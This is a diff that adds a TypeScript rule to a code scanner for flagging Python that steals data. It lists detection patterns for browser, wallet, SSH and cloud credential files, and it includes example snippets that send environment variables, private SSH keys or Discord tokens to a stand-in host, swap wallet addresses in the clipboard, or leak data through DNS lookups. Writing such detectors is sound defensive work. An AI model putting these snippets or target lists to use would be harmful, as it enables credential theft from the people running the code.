@@ -1,0 +1,86 @@
+import type { PythonCall, PythonFact } from '../../facts/python/pythonFacts.ts';
+import { defineRule } from '../../rule.ts';
+import type { Hit } from '../../rule.ts';
+
+const NETWORK = /^(?:requests|urllib\d?|httpx|aiohttp|http|socket|smtplib|ftplib|discord\w*|telebot|telegram|websocket\w*|pycurl|dhooks)\b/;
+/** Where browsers, chat programs and wallets keep what lets somebody in. */
+const STORES = /Login Data|Local Storage[\\/]+leveldb|logins\.json|key4\.db|cookies\.sqlite|[\\/]Network[\\/]+Cookies|CryptUnprotectData|wallet\.dat|Exodus[\\/]+exodus\.wallet|Electrum[\\/]+wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|Local Extension Settings/i;
+/** Keys of the person who runs the program. */
+const KEYS = /\.ssh[\\/'", ]+(?:id_(?:rsa|dsa|ed25519|ecdsa)\b)|\.aws[\\/'", ]+credentials|\.kube[\\/'", ]+config|\.git-credentials|\.pypirc|\.docker[\\/'", ]+config\.json|\/etc\/shadow|gcloud[\\/'", ]+(?:credentials\.db|application_default_credentials)/;
+const READS = /^(?:open|io\.open|shutil\.copy\w*|sqlite3\.connect|os\.(?:listdir|scandir|walk)|glob\.\w+|zipfile\.\w+|tarfile\.\w+)$|\.(?:read_text|read_bytes)$|\.write$/;
+const SENDS = /^(?:requests\.(?:post|put|get|request)|httpx\.(?:post|put|get)|urllib\.request\.(?:urlopen|Request)|urllib2\.(?:urlopen|Request)|(?:requests\.Session|requests\.session|aiohttp\.ClientSession|httpx\.\w*Client|http\.client\.HTTPS?Connection)\(\)\.(?:post|put|get|request)|socket\.socket\(\)\.(?:send|sendall)|smtplib\.SMTP(?:_SSL)?\(\)\.(?:sendmail|send_message)|ftplib\.FTP\(\)\.storbinary|dhooks\.Webhook\(\)\.send|discord\.Webhook\S*\.send)$|\.sendall$|\.sendmail$/;
+/** Everything that the environment holds, not one variable of it. */
+const ENVIRONMENT = /(?:dict|str|dumps|repr|list|urlencode)\(\s*(?:dict\(\s*)?os\.environ\s*[),]|os\.environ\.(?:items|copy|values)\(\)|(?:data|json|params)\s*=\s*os\.environ\s*[,)]/;
+const WHO = /gethostname|getuser|getlogin|platform\.node|uname\(|os\.getcwd|expanduser|getfqdn/g;
+const WALLET = /bc1\[|\[13\]\[|\(bc1|0x\[a-fA-F0-9\]\{40\}|0x\[0-9a-fA-F\]\{40\}|\(0x\)\?\[a-f|\^?T\[A-Za-z1-9\]\{33\}|\[LM3\]\[/;
+
+const place = (path: string, call: PythonCall) => ({ path, line: call.line, column: call.column });
+
+/** What a module takes and sends away, told at the place where it is taken or sent. */
+function* takings(path: string, fact: PythonFact): Generator<Hit> {
+  const send = fact.calls.find((call) => SENDS.test(call.name));
+  const store = fact.calls.find((call) => STORES.test(call.text)) ?? fact.assigns.find((one) => STORES.test(one.text));
+  if (send !== undefined && store !== undefined) yield { place: { path, line: store.line, column: store.column }, evidence: store.text, message: 'It reads where browsers, chat programs or wallets keep their secrets, and sends data away.' };
+  const keys = send === undefined ? undefined : fact.calls.find((call) => READS.test(call.name) && KEYS.test(`${call.text} ${call.on?.text ?? ''} ${call.args.map((value) => String(value.constant ?? value.prefix ?? '')).join(' ')}`));
+  const carries = fact.calls.some((call) => SENDS.test(call.name) && [...call.args, ...call.named.map(([, value]) => value)].some((value) => value.constant === undefined));
+  if (keys !== undefined && carries) yield { place: place(path, keys), evidence: keys.text, confidence: 'medium', message: 'It reads the keys of whoever runs it, and sends data away.' };
+  for (const call of fact.calls) {
+    if (!SENDS.test(call.name)) continue;
+    if (ENVIRONMENT.test(call.text)) yield { place: place(path, call), evidence: call.text, message: 'It sends all variables of the environment away, keys included.' };
+    else if (new Set(call.text.match(WHO) ?? []).size >= 2) yield { place: place(path, call), evidence: call.text, severity: 'high', confidence: 'medium', message: 'It reports who runs it on which machine.' };
+  }
+}
+
+/** Data hidden in names that are looked up. */
+function* lookups(path: string, fact: PythonFact): Generator<Hit> {
+  if (!fact.calls.some(({ name }) => /^(?:os\.popen|subprocess\.\w+|getpass\.getuser|socket\.gethostname|os\.getlogin|platform\.node)$/.test(name))) return;
+  const call = fact.calls.find((one) => /^socket\.(?:gethostbyname|getaddrinfo)$|^dns\.resolver\.\w+$/.test(one.name) && /(?:\+\s*["']|\})\.[\w-]+\.[\w.-]+/.test(one.text));
+  if (call !== undefined) yield { place: place(path, call), evidence: call.text, severity: 'high', confidence: 'medium', message: 'It hides data in a name that it looks up.' };
+}
+
+/** Keys that are pressed and addresses that are copied. */
+function* listening(path: string, fact: PythonFact): Generator<Hit> {
+  const keyboard = fact.calls.find(({ name }) => /^pynput\.keyboard\.(?:Listener|GlobalHotKeys)$|^keyboard\.(?:on_press|on_release|hook|record)$|^(?:pyHook|pyxhook|pyWinhook)\.HookManager$/.test(name));
+  const send = fact.calls.find((call) => SENDS.test(call.name));
+  if (keyboard !== undefined && !keyboard.name.endsWith('GlobalHotKeys') && send !== undefined) yield { place: place(path, keyboard), evidence: keyboard.text, confidence: 'medium', message: 'It listens to the keyboard and sends data away.' };
+  const paste = fact.calls.find(({ name }) => /^(?:pyperclip|clipboard|win32clipboard)\.(?:paste|GetClipboardData)$/.test(name));
+  const copy = fact.calls.find(({ name }) => /^(?:pyperclip|clipboard|win32clipboard)\.(?:copy|SetClipboard(?:Data|Text))$/.test(name));
+  const wallets = fact.calls.some(({ name, args }) => /^re\./.test(name) && typeof args[0]?.constant === 'string' && WALLET.test(args[0].constant));
+  if (paste !== undefined && copy !== undefined && wallets) yield { place: place(path, copy), evidence: copy.text, message: 'It swaps addresses of wallets in the clipboard.' };
+}
+
+export const pythonStealsData = defineRule({
+  id: 'python-steals-data',
+  title: 'Secrets of the person who runs it are sent away',
+  severity: 'critical',
+  confidence: 'high',
+  category: 'code',
+  applies: 'repository',
+  cwe: 'CWE-506',
+  why: 'Passwords, keys, tokens and wallets of everybody who runs or installs this end up with a stranger.',
+  remedy: 'Do not run it. Whoever ran it should withdraw their keys and passwords.',
+  *check(facts) {
+    for (const [file, fact] of facts.having('python')) {
+      if (file.traits.test || file.traits.docs || !fact.imports.some((name) => NETWORK.test(name) || /pyperclip|clipboard/.test(name))) continue;
+      yield* takings(file.path, fact);
+      yield* lookups(file.path, fact);
+      yield* listening(file.path, fact);
+    }
+  },
+  examples: {
+    bad: [
+      { kind: 'repository', files: { 'a/__init__.py': "import requests, os\nrequests.post('https://x.dev/e', json=dict(os.environ))\n" } },
+      { kind: 'repository', files: { 'a/__init__.py': "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('https://x.dev/?k=' + key)\n" } },
+      { kind: 'repository', files: { 'a.py': "import os, requests\np = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\nrequests.post(hook, json={'content': find(p)})\n" } },
+      { kind: 'repository', files: { 'a.py': "import pyperclip, re\nt = pyperclip.paste()\nif re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n    pyperclip.copy(MINE)\n" } },
+      { kind: 'repository', files: { 'a.py': "import os, socket\ndata = os.popen('whoami').read()\nsocket.gethostbyname(data + '.x.dev.net')\n" } },
+    ],
+    good: [
+      { kind: 'repository', files: { 'a.py': "import os, requests\nrequests.post('https://x.dev/e', json={'token': os.environ['TOKEN']})\n" } },
+      { kind: 'repository', files: { 'a.py': "import os, paramiko\nc.connect(host, key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n" } },
+      { kind: 'repository', files: { 'a.py': "import pyperclip\npyperclip.copy(text)\nt = pyperclip.paste()\n" } },
+      { kind: 'repository', files: { 'a.py': "import os, subprocess, requests\nsubprocess.run(['make'], env=dict(os.environ, LANG='C'))\nrequests.get('https://x.dev/v')\n" } },
+      { kind: 'repository', files: { 'a.py': "import socket\nsocket.gethostbyname('www.' + domain)\n" } },
+    ],
+  },
+});
